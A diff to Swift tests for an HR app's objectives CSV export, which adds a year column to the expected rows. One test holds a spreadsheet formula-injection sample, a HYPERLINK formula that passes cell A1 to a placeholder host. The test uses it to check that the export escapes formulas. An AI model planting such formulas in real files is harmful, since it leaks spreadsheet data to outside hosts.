@@ -22,8 +22,9 @@ struct ObjectivesDownloadTests {
             let file = try await hr.get("/hr/scarica/objectives.csv?anno=2024")
             #expect(file.status == .ok)
             #expect(file.headers[.contentDisposition] == "attachment; filename=\"sipav-2024-objectives.csv\"")
-            #expect(file.text == "\u{FEFF}employee_id;objective;title;weight;cosa;come;version\n"
-                    + "E1;OB1;Ridurre i tempi di risposta;60;5;A;2\nE1;OB2;Digitalizzare l'archivio;40;;;1\nE2;OB1;Bilancio sociale;100;;;1\n",
+            #expect(file.text == "\u{FEFF}employee_id;objective;title;weight;cosa;come;version;year\n"
+                    + "E1;OB1;Ridurre i tempi di risposta;60;5;A;2;2024\nE1;OB2;Digitalizzare l'archivio;40;;;1;2024\n"
+                    + "E2;OB1;Bilancio sociale;100;;;1;2024\n",
                     "\(file.text)")
 
             let uploaded = try await HRPagesFixture.upload(Array(file.text.utf8), filename: "objectives.csv", to: "/hr/obiettivi/importa",
@@ -52,8 +53,8 @@ struct ObjectivesDownloadTests {
             }
             let (hr, csrf) = try await HRPagesFixture.loggedIn("hr", on: browser.client)
             let file = try await hr.get("/hr/scarica/objectives.csv?anno=2024")
-            #expect(file.text.contains("\nE1;OB1;\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Clicca\"\")\";60;;;1\n"), "\(file.text)")
-            #expect(file.text.contains("\nE1;OB2;''-2 giorni;40;;;1\n"), "\(file.text)")
+            #expect(file.text.contains("\nE1;OB1;\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Clicca\"\")\";60;;;1;2024\n"), "\(file.text)")
+            #expect(file.text.contains("\nE1;OB2;''-2 giorni;40;;;1;2024\n"), "\(file.text)")
             let uploaded = try await HRPagesFixture.upload(Array(file.text.utf8), filename: "objectives.csv", to: "/hr/obiettivi/importa",
                                                            csrf: csrf, fields: [("anno", "2024")], with: hr)
             #expect(uploaded.status == .seeOther, "\(uploaded.text)")
@@ -85,7 +86,7 @@ struct ObjectivesDownloadTests {
         try await withWebApp { browser, database in
             let (hr, csrf) = try await HRPagesFixture.loggedIn("hr", on: browser.client)
             let downloaded = try await hr.get("/hr/scarica/objectives.csv?anno=2024").text
-            #expect(downloaded.contains("E1;OB1;Ridurre i tempi di risposta;60;;;1\n"), "\(downloaded)")
+            #expect(downloaded.contains("E1;OB1;Ridurre i tempi di risposta;60;;;1;2024\n"), "\(downloaded)")
             try database.withConnection { db in
                 // As the manager's save does: both objectives rated, each version moved on.
                 _ = try db.execute("UPDATE individual_objectives SET cosa = 5, come = 'A', version = version + 1 WHERE employee_id = 'E1'")
